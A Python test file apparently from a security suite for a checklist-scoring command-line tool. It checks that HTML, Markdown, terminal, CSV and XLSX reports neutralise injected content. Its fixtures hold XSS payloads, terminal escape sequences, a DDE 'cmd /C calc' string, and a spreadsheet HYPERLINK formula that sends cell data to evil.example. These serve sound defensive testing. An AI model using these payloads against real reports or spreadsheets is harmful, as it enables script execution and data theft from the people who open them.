"""Injection into reports: HTML/script and Markdown in every user field of every format,
escape sequences on the terminal, spreadsheet formulas in CSV and XLSX.

Hostile strings are kept exactly where the format allows (JSON) and made inert elsewhere.

Part of the security suite (``tests/test_security_*.py``): every test runs the real command
line in a subprocess (``helpers.cli``) and checks a clear message and no damage.
"""
from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from helpers import (
    Run,
    assert_clean,
    cli,
    indicators_by_id,
    write,
)

# --------------------------------------------------------------------------- 7. HTML / script injection

XSS_CHECKLIST = r"""
ledcheck: 1
id: xss
version: "<script>alert('version')</script>"
title: "<script>alert('title')</script> Checklist"
languages: [en]
ratings:
  - {min: 50, label: "<img src=x onerror=alert('rating')>"}
  - {min: 0, label: "<a href='javascript:alert(1)'>low</a>"}
sections:
  - id: s1
    title: "<img src=x onerror=alert('section')> One"
    indicators:
      - {id: T1, text: "<script>alert('t1')</script>", type: text}
      - id: C1
        text: "<a href=\"javascript:alert('c1')\">c1</a>"
        type: choice
        options:
          - {id: good, label: "<b onmouseover=alert(1)>good</b>", score: 1}
          - {id: bad, label: bad, score: 0}
      - id: M1
        text: "<svg onload=alert('m1')>"
        type: multi
        options:
          - {id: a, label: A, score: 1}
          - {id: b, label: B, score: 1}
      - {id: N1, text: "number", type: number, target: 10, unit: "<img src=x onerror=alert('unit')>"}
      - {id: Y1, text: "yes/no", type: yesno, evidence: required}
    sections:
      - id: s1a
        title: "<iframe src=\"javascript:alert('sub')\"></iframe>"
        indicators:
          - {id: T2, text: "[link](javascript:alert('t2')) ![img](x onerror=alert(1))", type: text}
  - id: s2
    title: "<style>body{display:none}</style> Two"
    indicators:
      - {id: Y2, text: "<!-- comment --> y2", type: yesno}
  - id: s3
    title: "Three &lt;script&gt; &#60;img&#62;"
    indicators:
      - {id: Y3, text: "y3 <javascript:alert(1)>", type: yesno}
"""

XSS = {
    "subject": "<script>alert('subject')</script>",
    "assessor": "<img src=x onerror=alert('assessor')>",
    "period": "[link=javascript:alert('period')]p[/link] <b>",
    "date": "<svg onload=alert('date')>",
    "checklist_version": "<img src=x onerror=alert('cv')>",
    "text": "<script>alert('text')</script>",
    "evidence": "<img src=x onerror=alert('evidence')>",
    "note": "</td></tr></table><script>alert('note')</script>",
    "choice": "<img src=x onerror=alert('choice')>",
    "multi": "<script>alert('multi')</script>",
    "yesno": "<b>maybe</b>",
    "unknown": "<img src=x onerror=alert(1)>",
    "answer_key": "<script>alert('key')</script>",
    "text2": "javascript:alert('t2') | # *x* `y` [z](javascript:1)",
}


def _q(s: str) -> str:
    return json.dumps(s)


XSS_SUBMISSION = f"""\
ledcheck: 1
checklist: xss
checklist_version: {_q(XSS['checklist_version'])}
subject: {_q(XSS['subject'])}
assessor: {_q(XSS['assessor'])}
date: {_q(XSS['date'])}
period: {_q(XSS['period'])}
answers:
  T1: {{value: {_q(XSS['text'])}, evidence: {_q(XSS['evidence'])}, note: {_q(XSS['note'])}}}
  T2: {_q(XSS['text2'])}
  C1: {_q(XSS['choice'])}
  M1: [a, {_q(XSS['multi'])}]
  N1: {{value: 5, evidence: "e", note: "n"}}
  Y1: {_q(XSS['yesno'])}
  Y2: {{value: yes, evidence: {_q(XSS['evidence'])}}}
  {_q(XSS['unknown'])}: yes
  Y3: {{value: yes, {_q(XSS['answer_key'])}: 1}}
"""

# A second submission, so that multi-result layouts (summary tables) are rendered too; its
# subject carries Rich markup and a terminal escape, its unknown key a fake problem line.
XSS_SUBMISSION_2 = """\
ledcheck: 1
checklist: xss
subject: "[bold red]RED[/] \\e[31mescape"
answers:
  Y2: yes
  "\\e[2J\\rfake.yaml:1:1: error: injected\\n": 1
"""

# Tags that a report may contain: the renderers' own markup (inline SVG charts included).
HTML_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "footer", "article",
             "section", "figure", "div", "p", "span", "strong", "a", "dl", "dt", "dd", "ul", "li",
             "h1", "h2", "h3", "h4", "h5", "h6", "table", "caption", "colgroup", "col", "thead",
             "tbody", "tr", "th", "td", "svg", "polygon", "line", "text", "tspan", "circle", "rect"}
MD_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "strong", "em", "code",
           "table", "thead", "tbody", "tr", "th", "td", "br", "hr"}


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def assert_inert_html(markup: str, allowed: set[str], *, shown: list[str] = ()) -> None:
    """No tag, attribute or URL from the data: only the renderer's own markup; and the hostile
    strings are shown as text."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    tags = [t for t, _ in parser.tags]
    assert set(tags) <= allowed, set(tags) - allowed
    assert tags.count("style") <= 1 and tags.count("script") == 0
    assert parser.comments == []
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.lower().startswith("on"), (tag, name, value)
            assert "javascript:" not in (value or "").lower().replace(" ", ""), (tag, name, value)
            if tag == "a" and name == "href":
                assert value.startswith("#"), value
    text = "".join(parser.text)
    for s in shown:
        assert s in text, f"{s!r} is not shown as text"


@pytest.fixture
def xss_files(tmp_path):
    cl = write(tmp_path / "cl.yaml", XSS_CHECKLIST)
    sub = write(tmp_path / "sub.yaml", XSS_SUBMISSION)
    sub2 = write(tmp_path / "sub2.yaml", XSS_SUBMISSION_2)
    return cl, sub, sub2


def _score_to(tmp_path, cl, subs, fmt, *extra) -> tuple[Run, bytes]:
    out = tmp_path / f"out.{fmt}"
    run = cli("score", "-c", cl, *subs, "-o", out, *extra, cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 1, run  # the submission has errors, and is still scored
    return run, out.read_bytes()


SHOWN = [XSS["subject"], XSS["assessor"], XSS["text"], XSS["evidence"], XSS["note"],
         "<script>alert('title')</script> Checklist", "<img src=x onerror=alert('section')> One",
         "<iframe src=\"javascript:alert('sub')\"></iframe>", "<script>alert('t1')</script>",
         "<style>body{display:none}</style> Two", "<img src=x onerror=alert('rating')>",
         "<!-- comment --> y2", "Three &lt;script&gt; &#60;img&#62;",
         f"not '{XSS['choice']}'", f"option '{XSS['multi']}'", f"not '{XSS['yesno']}'",
         f"unknown indicator '{XSS['unknown']}'", f"unknown key '{XSS['answer_key']}'",
         f"not '{XSS['date']}'", f"'{XSS['checklist_version']}'"]


def test_html_reports_escape_every_user_field(tmp_path, xss_files):
    cl, sub, sub2 = xss_files
    # several results: summary table and one article each
    _run, data = _score_to(tmp_path, cl, [sub, sub2], "html")
    assert_inert_html(data.decode("utf-8"), HTML_TAGS, shown=SHOWN + [XSS["period"]])
    # one report per submission (the single-result layout)
    out = tmp_path / "reports"
    run = cli("score", "-c", cl, sub, sub2, "-o", f"{out}/", "-f", "html", cwd=tmp_path)
    assert_clean(run)
    reports = sorted(out.iterdir())
    assert len(reports) == 3
    for report in reports:
        assert_inert_html(report.read_text(encoding="utf-8"), HTML_TAGS)
    single = [r for r in reports if r.name.startswith("script")]
    assert len(single) == 1, reports
    assert_inert_html(single[0].read_text(encoding="utf-8"), HTML_TAGS, shown=SHOWN)


def test_markdown_reports_cannot_inject_markup(tmp_path, xss_files):
    from markdown_it import MarkdownIt

    cl, sub, sub2 = xss_files
    for subs in ([sub], [sub, sub2]):
        _run, data = _score_to(tmp_path, cl, subs, "md")
        rendered = MarkdownIt("commonmark").enable("table").render(data.decode("utf-8"))
        assert "<script" not in rendered and "<img" not in rendered and "<iframe" not in rendered
        assert_inert_html(rendered, MD_TAGS, shown=SHOWN)


def test_json_and_jsonl_keep_hostile_strings_exactly(tmp_path, xss_files):
    cl, sub, _sub2 = xss_files
    _run, data = _score_to(tmp_path, cl, [sub], "json")
    [r_json] = json.loads(data)
    _run, data = _score_to(tmp_path, cl, [sub], "jsonl")
    [r_jsonl] = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    run = cli("score", "-c", cl, sub, "-f", "json", cwd=tmp_path)
    [r_stdout] = json.loads(run.out)
    for r in (r_json, r_jsonl, r_stdout):
        assert r["subject"] == XSS["subject"]
        assert r["assessor"] == XSS["assessor"]
        assert r["period"] == XSS["period"]
        inds = indicators_by_id(r)
        assert inds["T1"]["value"] == XSS["text"]
        assert inds["T1"]["evidence"] == XSS["evidence"]
        assert inds["T1"]["note"] == XSS["note"]
        assert inds["T2"]["value"] == XSS["text2"]
        messages = "\n".join(p["message"] for p in r["problems"])
        for s in ("choice", "multi", "yesno", "unknown", "answer_key", "date", "checklist_version"):
            assert XSS[s] in messages, s
        assert f"answers.{XSS['unknown']}" in {p["path"] for p in r["problems"]}
    assert r_json == r_jsonl == r_stdout | {"source": r_json["source"]}


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_and_xlsx_keep_hostile_strings_as_text(tmp_path, xss_files):
    openpyxl = pytest.importorskip("openpyxl")
    cl, sub, _sub2 = xss_files
    _run, wide = _score_to(tmp_path, cl, [sub], "csv")
    header, row = _csv_rows(wide)
    cells = dict(zip(header, row, strict=True))
    assert cells["subject"] == XSS["subject"] and cells["assessor"] == XSS["assessor"]
    assert cells["period"] == XSS["period"]
    long_out = tmp_path / "long.csv"
    run = cli("score", "-c", cl, sub, "--long", "-o", long_out, cwd=tmp_path)
    assert_clean(run)
    rows = _csv_rows(long_out.read_bytes())
    by_id = {r[rows[0].index("indicator_id")]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_id["T1"]["value"] == XSS["text"] and by_id["T1"]["note"] == XSS["note"]
    assert by_id["T1"]["text"] == "<script>alert('t1')</script>"

    _run, _ = _score_to(tmp_path, cl, [sub], "xlsx")
    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    values = {c.value for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
    for s in (XSS["subject"], XSS["assessor"], XSS["text"], XSS["note"], XSS["evidence"],
              "<script>alert('t1')</script>", "<script>alert('title')</script> Checklist"):
        assert s in values, s


def test_terminal_table_and_stderr_cannot_be_driven_by_the_data(tmp_path, xss_files):
    cl, sub, sub2 = xss_files
    run = cli("score", "-c", cl, sub, sub2, cwd=tmp_path)
    assert_clean(run)
    assert run.rc == 1, run
    assert "\x1b" not in run.out and "\x1b" not in run.err, run
    assert "[bold red]RED[/]" in run.out  # Rich markup in a subject is shown, not applied
    assert "[link=javascript:alert('period')]p[/link]" in run.out
    # a newline or CR in an unknown key cannot start a fake problem line
    assert not re.search(r"^\s*fake\.yaml", run.err, re.M), run
    assert re.search(r"sub2\.yaml:6:3: error: unknown indicator '\\x1b\[2J\\rfake", run.err), run


def test_validate_stderr_cannot_be_driven_by_the_data(tmp_path, xss_files):
    cl, _sub, sub2 = xss_files
    run = cli("validate", "-c", cl, sub2, cwd=tmp_path)
    assert_clean(run)
    assert "\x1b" not in run.err, run
    assert not re.search(r"^\s*fake\.yaml", run.err, re.M), run


# --------------------------------------------------------------------------- 8. formula injection

FORMULAS = {
    "subject": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "assessor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "period": "-2+3",
    "evidence": "+1+1",
    "note": "\t=1+1",
    "text": "\r=2+2",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FORMULA_CHECKLIST = """\
ledcheck: 1
id: formula
version: "1"
title: "=cmd|' /C calc'!A0"
sections:
  - id: s
    title: "+section"
    indicators:
      - {id: T1, text: "-text", type: text}
      - {id: N1, text: "@number", type: number, min: -100, max: 100, baseline: 0, target: -50}
      - {id: N2, text: number two, type: number, target: 10}
"""


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def test_csv_and_xlsx_cells_are_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    cl = write(tmp_path / "cl.yaml", FORMULA_CHECKLIST)
    sub = write(tmp_path / "sub.yaml", f"""\
ledcheck: 1
checklist: formula
subject: {_q(FORMULAS['subject'])}
assessor: {_q(FORMULAS['assessor'])}
period: {_q(FORMULAS['period'])}
answers:
  T1: {{value: {_q(FORMULAS['text'])}, evidence: {_q(FORMULAS['evidence'])}, note: {_q(FORMULAS['note'])}}}
  N1: -20
  N2: {{value: -3.5, evidence: "-e", note: "@n"}}
""")
    outs = {}
    for name, extra in (("wide.csv", ()), ("long.csv", ("--long",)), ("out.xlsx", ())):
        run = cli("score", "-c", cl, sub, "-o", tmp_path / name, *extra, cwd=tmp_path)
        assert_clean(run)
        assert run.rc == 0, run
        outs[name] = (tmp_path / name).read_bytes()

    for name in ("wide.csv", "long.csv"):
        rows = _csv_rows(outs[name])
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_START):
                    assert _is_number(cell), (name, cell)  # a genuine negative number
        cells = {c for row in rows for c in row}
        fields = ("subject", "assessor", "period") if name == "wide.csv" else \
            ("subject", "period", "evidence", "note", "text")
        for field in fields:
            assert "'" + FORMULAS[field] in cells, (name, field)

    rows = _csv_rows(outs["long.csv"])
    by_id = {r[rows[0].index("indicator_id")]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_id["N1"]["value"] == "-20" and by_id["N2"]["value"] == "-3.5"
    assert by_id["N2"]["evidence"] == "'-e" and by_id["N2"]["note"] == "'@n"
    assert by_id["T1"]["text"] == "'-text"

    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    strings = set()
    for ws in wb:
        for r in ws.iter_rows():
            for c in r:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate)
                    assert not c.value.startswith(FORMULA_START), (ws.title, c.coordinate, c.value)
                    strings.add(c.value)
    for field, value in FORMULAS.items():
        # XML parsers read a raw CR in a cell as LF (line-end normalisation): "\r=2+2" comes back
        # as "\n=2+2", still behind its quote
        assert "'" + value.replace("\r", "\n") in strings, field
    ind = wb["Indicators"]
    header = [c.value for c in ind[1]]
    rows = {r[header.index("indicator_id")].value: r for r in ind.iter_rows(min_row=2)}
    n1 = rows["N1"][header.index("value")]
    n2 = rows["N2"][header.index("value")]
    assert (n1.value, n1.data_type) == (-20, "n") and (n2.value, n2.data_type) == (-3.5, "n")
